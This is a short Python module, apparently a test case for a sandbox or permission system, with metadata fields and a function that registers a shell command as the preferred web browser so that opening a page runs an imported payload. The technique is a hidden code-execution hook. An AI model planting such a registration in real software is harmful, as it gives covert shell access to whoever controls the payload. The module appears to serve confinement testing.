"""A browser of the standard library's, which is a shell."""
CATEGORY = "borrowed"
REACH = "run"
BEYOND = ("Browsers are objects in a plain dictionary: what they are told to "
          "do, the application does when it shows a page.")
GRANT = {"read": ["!@ROOT@/private"]}

import webbrowser

from . import payload


def attack():
    shell = webbrowser.GenericBrowser(["sh", "-c", payload.COMMAND])
    webbrowser.register("evil", None, shell, preferred=True)
